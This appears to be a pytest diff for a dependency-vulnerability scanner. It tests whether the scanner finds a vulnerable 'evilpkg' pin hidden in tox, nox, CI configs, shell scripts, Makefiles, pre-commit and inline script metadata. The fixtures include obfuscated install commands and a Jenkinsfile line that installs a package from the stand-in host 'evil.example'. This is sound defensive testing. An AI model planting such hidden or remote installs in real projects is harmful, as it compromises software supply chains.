@@ -461,3 +461,292 @@ def test_hostile_dependency_files_are_problems_not_crashes(
     errors = bundle.document["deps"]["errors"]
     assert errors and error in " ".join(errors)
     assert controls[VULN].status is ControlStatus.FAIL
+
+
+# -- 4. declarations outside the manifests: tox, nox, CI, scripts, pre-commit, PEP 723, pixi ----
+
+_NOX = "import nox\n\n@nox.session\ndef tests(session):\n    session.install({args})\n"
+
+
+@pytest.mark.parametrize(
+    ("files", "source", "line"),
+    [
+        # tox: deps, includes, substitutions, factors, commands, TOML forms
+        (
+            {"tox.ini": "[tox]\nenvlist = py\n[testenv]\ndeps =\n    pytest\n    evilpkg==1.5\n"},
+            "tox.ini",
+            6,
+        ),
+        (
+            {"tox.ini": "[testenv]\ndeps =\n    -r ci/test.lst\n", "ci/test.lst": "evilpkg==1.5\n"},
+            "ci/test.lst",
+            1,
+        ),
+        (
+            {"tox.ini": "[base]\ndeps = evilpkg==1.5\n[testenv:lint]\ndeps = {[base]deps}\n"},
+            "tox.ini",
+            2,
+        ),
+        ({"tox.ini": "[testenv]\ndeps =\n    py312: evilpkg==1.5\n"}, "tox.ini", 3),
+        (
+            {"tox.ini": "[testenv]\ncommands =\n    pip install evilpkg==1.5\n    pytest\n"},
+            "tox.ini",
+            3,
+        ),
+        (
+            {
+                "pyproject.toml": '[tool.tox]\nlegacy_tox_ini = """\n[testenv]\n'
+                'deps = evilpkg==1.5\n"""\n'
+            },
+            "pyproject.toml",
+            4,
+        ),
+        ({"tox.toml": '[env_run_base]\ndeps = ["evilpkg==1.5"]\n'}, "tox.toml", 2),
+        ({"tox.toml": '[env.t]\ncommands = [["pip", "install", "evilpkg==1.5"]]\n'}, "tox.toml", 2),
+        # nox: constant arguments of session.install, read from the syntax tree
+        ({"noxfile.py": _NOX.format(args='"pytest", "evilpkg==1.5"')}, "noxfile.py", 5),
+        (
+            {"noxfile.py": _NOX.format(args='"-r", "ci/nox.lst"'), "ci/nox.lst": "evilpkg==1.5\n"},
+            "ci/nox.lst",
+            1,
+        ),
+        ({"noxfile.py": 'DEPS = ["evilpkg==1.5"]\n' + _NOX.format(args="*DEPS")}, "noxfile.py", 6),
+        # install commands in CI files, scripts, Makefiles
+        (
+            {
+                ".github/workflows/ci.yml": "on: push\njobs:\n  t:\n    steps:\n      - run: |\n"
+                "          python -m pip install -U pip\n          pip install evilpkg==1.5\n"
+            },
+            ".github/workflows/ci.yml",
+            7,
+        ),
+        (
+            {".gitlab-ci.yml": "test:\n  script:\n    - python -m pip install 'evilpkg==1.5'\n"},
+            ".gitlab-ci.yml",
+            3,
+        ),
+        (
+            {"azure-pipelines.yml": "steps:\n- script: uv pip install evilpkg==1.5\n"},
+            "azure-pipelines.yml",
+            2,
+        ),
+        (
+            {
+                ".circleci/config.yml": "jobs:\n  b:\n    steps:\n"
+                "      - run: pip3 install evilpkg==1.5\n"
+            },
+            ".circleci/config.yml",
+            4,
+        ),
+        (
+            {"Jenkinsfile": "pipeline {\n  stages {\n    sh 'pip install evilpkg==1.5'\n  }\n}\n"},
+            "Jenkinsfile",
+            3,
+        ),
+        (
+            {"scripts/setup.sh": "#!/bin/sh\nset -e\npip install \\\n  evilpkg==1.5\n"},
+            "scripts/setup.sh",
+            3,
+        ),
+        ({"bin/bootstrap": "#!/usr/bin/env bash\nuv add evilpkg==1.5\n"}, "bin/bootstrap", 2),
+        ({"install.sh": "pipx install evilpkg==1.5\n"}, "install.sh", 1),
+        # installs hidden one level down: sh -c, backticks, a variable named for pip, uv run
+        ({"ci.sh": "docker run img bash -c 'pip install evilpkg==1.5 && pytest'\n"}, "ci.sh", 1),
+        ({"ci.sh": "x=`python -m pip install evilpkg==1.5`\n"}, "ci.sh", 1),
+        ({"ci.sh": 'PIP="python -m pip"\n$PIP install evilpkg==1.5\n'}, "ci.sh", 2),
+        ({"ci.sh": "uv run --with evilpkg==1.5 pytest\n"}, "ci.sh", 1),
+        (
+            {
+                "bin/tool": "#!/usr/bin/env -S uv run --script\n# /// script\n"
+                "# dependencies = ['evilpkg==1.5']\n# ///\n"
+            },
+            "bin/tool",
+            3,
+        ),
+        (
+            {
+                "Makefile": "PIP = python -m pip\nLOCK := ci/lock.lst\n"
+                "dev:\n\t$(PIP) install -c $(LOCK) x\n",
+                "ci/lock.lst": "evilpkg==1.5\n",
+            },
+            "ci/lock.lst",
+            1,
+        ),
+        ({"Makefile": "dev:\n\t@python -m pip install evilpkg==1.5\n"}, "Makefile", 2),
+        # pre-commit hooks' additional dependencies
+        (
+            {
+                ".pre-commit-config.yaml": "repos:\n  - repo: local\n    hooks:\n      - id: x\n"
+                "        language: python\n        additional_dependencies: [evilpkg==1.5]\n"
+            },
+            ".pre-commit-config.yaml",
+            6,
+        ),
+        # requirements files by wider names, and included from anything read
+        ({"myrequirements.txt": "evilpkg==1.5\n"}, "myrequirements.txt", 1),
+        ({"constraints2.txt": "evilpkg==1.5\n"}, "constraints2.txt", 1),
+        (
+            {
+                "environment.yml": "dependencies:\n  - pip:\n    - -r conda.lst\n",
+                "conda.lst": "evilpkg==1.5\n",
+            },
+            "conda.lst",
+            1,
+        ),
+        # PEP 723 inline script metadata
+        (
+            {
+                "tools/report.py": "# /// script\n# requires-python = '>=3.11'\n"
+                "# dependencies = [\n"
+                "#   'evilpkg==1.5',\n# ]\n# ///\nprint(1)\n"
+            },
+            "tools/report.py",
+            4,
+        ),
+        # pixi
+        (
+            {"pixi.toml": '[project]\nname = "x"\n[pypi-dependencies]\nevilpkg = "==1.5"\n'},
+            "pixi.toml",
+            4,
+        ),
+        (
+            {"pixi.toml": '[feature.test.pypi-dependencies]\nevilpkg = { version = "==1.5" }\n'},
+            "pixi.toml",
+            2,
+        ),
+        (
+            {
+                "pyproject.toml": '[project]\nname = "x"\n[tool.pixi.pypi-dependencies]\n'
+                'evilpkg = "==1.5"\n'
+            },
+            "pyproject.toml",
+            4,
+        ),
+    ],
+)
+def test_attack_vulnerable_pin_declared_outside_the_manifests(
+    tmp_path: Path, db: Path, files: dict[str, str], source: str, line: int
+) -> None:
+    root = _project(tmp_path, files)
+    bundle, controls = _check(root, db)
+    vulns = bundle.document["deps"]["vulnerabilities"]
+    assert {(v["source"], v["line"], v["id"]) for v in vulns} == {(source, line, "OSV-EVIL-1")}
+    assert controls[VULN].status is ControlStatus.FAIL
+
+
+@pytest.mark.parametrize(
+    ("files", "source"),
+    [
+        ({"tox.ini": "[testenv]\ndeps = {[missing]deps}\n"}, "tox.ini"),
+        ({"tox.ini": "[testenv]\ndeps = evilpkg=={env:EVIL_VERSION}\n"}, "tox.ini"),
+        ({"noxfile.py": _NOX.format(args="*get_deps()")}, "noxfile.py"),
+        ({"noxfile.py": _NOX.format(args='f"evilpkg=={V}"')}, "noxfile.py"),
+        ({"scripts/i.sh": 'pip install "$PKG"\n'}, "scripts/i.sh"),
+        ({"Makefile": "i:\n\tpip install -r $(shell ls *.lst)\n"}, "Makefile"),
+        (
+            {
+                ".github/workflows/x.yml": "jobs:\n  a:\n    steps:\n"
+                "      - run: pip install ${{ matrix.pkg }}\n"
+            },
+            ".github/workflows/x.yml",
+        ),
+        (
+            {"Jenkinsfile": 'sh "pip install https://evil.example/evilpkg-1.5.tar.gz"\n'},
+            "Jenkinsfile",
+        ),
+    ],
+)
+def test_attack_install_that_cannot_be_read_fails_closed(
+    tmp_path: Path, db: Path, files: dict[str, str], source: str
+) -> None:
+    root = _project(tmp_path, files)
+    bundle, controls = _check(root, db)
+    rows = bundle.document["deps"]["unverifiable"]
+    assert rows and {r["source"] for r in rows} == {source}
+    assert controls[VULN].status is ControlStatus.FAIL
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("tools/x.py", "# /// script\n# dependencies = [\n#   'evilpkg==1.5'\n# ///\n"),
+        ("tox.ini", "[testenv\ndeps = evilpkg==1.5\n"),
+        ("scripts/a.sh", "pip install 'evilpkg==1.5\n"),
+        (".pre-commit-config.yaml", "repos: [\n  additional_dependencies: evilpkg==1.5\n"),
+        ("noxfile.py", "def (:\n  session.install('evilpkg==1.5')\n"),
+    ],
+)
+def test_attack_declaration_that_does_not_parse_fails_closed(
+    tmp_path: Path, db: Path, name: str, content: str
+) -> None:
+    root = _project(tmp_path, {name: content})
+    bundle, controls = _check(root, db)
+    assert bundle.document["deps"]["present"] is True
+    errors = bundle.document["deps"]["errors"]
+    assert errors and all(e.startswith(name) for e in errors)
+    assert controls[VULN].status is ControlStatus.FAIL
+
+
+def test_attack_install_commands_without_any_manifest_are_not_skipped(
+    tmp_path: Path, db: Path
+) -> None:
+    root = _project(tmp_path, {"deploy/run.sh": "#!/bin/bash\npip install evilpkg==${V}\n"})
+    bundle, controls = _check(root, db)
+    assert bundle.document["deps"]["present"] is True
+    assert "deploy/run.sh" in bundle.document["deps"]["sources"]
+    assert controls[VULN].status is ControlStatus.FAIL
+
+
+def test_install_commands_of_the_project_itself_are_clean(tmp_path: Path, db: Path) -> None:
+    root = _project(
+        tmp_path,
+        {
+            "Makefile": "VENV ?= .venv\nBIN := $(VENV)/bin\n.installed:\n"
+            "\t$(BIN)/python -m pip install --require-hashes -r requirements.txt\n"
+            "\t$(BIN)/python -m pip install --no-deps -e '.[all,test]'  # the project\n",
+            "scripts/ci.sh": "#!/bin/sh\n# pip install evilpkg==1.5 (a comment)\n"
+            'echo "pip install evilpkg==1.5"\npip install .\n',
+            "requirements.txt": "flask==3.0.0\n",
+            "pyproject.toml": '[project]\nname = "x"\n',
+        },
+    )
+    bundle, controls = _check(root, db)
+    deps = bundle.document["deps"]
+    assert deps["unverifiable"] == [] and deps["errors"] == []
+    assert deps["vulnerabilities"] == []
+    assert controls[VULN].status is ControlStatus.PASS
+
+
+def test_pre_commit_hooks_of_other_languages_are_not_python(tmp_path: Path, db: Path) -> None:
+    root = _project(
+        tmp_path,
+        {
+            ".pre-commit-config.yaml": "repos:\n  - repo: https://x/mirrors-prettier\n"
+            "    hooks:\n      - id: prettier\n"
+            "        additional_dependencies: ['prettier@3.0.0']\n"
+            "      - id: y\n        language: node\n"
+            "        additional_dependencies: [evilpkg==1.5]\n",
+        },
+    )
+    bundle, controls = _check(root, db)
+    assert bundle.document["deps"]["vulnerabilities"] == []
+    assert bundle.document["deps"]["errors"] == []
+    assert controls[VULN].status is ControlStatus.PASS
+
+
+@pytest.mark.parametrize("tag", ["", "!reference [.x, y]"])
+def test_ci_step_names_that_mention_pip_are_not_installs(
+    tmp_path: Path, db: Path, tag: str
+) -> None:
+    root = _project(
+        tmp_path,
+        {
+            ".gitlab-ci.yml": "t:\n  variables:\n    X: " + (tag or "y") + "\n"
+            "  script:\n    - python -m pip install evilpkg==1.5\n"
+            "  name: Run pip install for docs\n",
+        },
+    )
+    bundle, _ = _check(root, db)
+    deps = bundle.document["deps"]
+    assert deps["unpinned"] == [] and deps["errors"] == []
+    assert {(v["source"], v["line"]) for v in deps["vulnerabilities"]} == {(".gitlab-ci.yml", 5)}
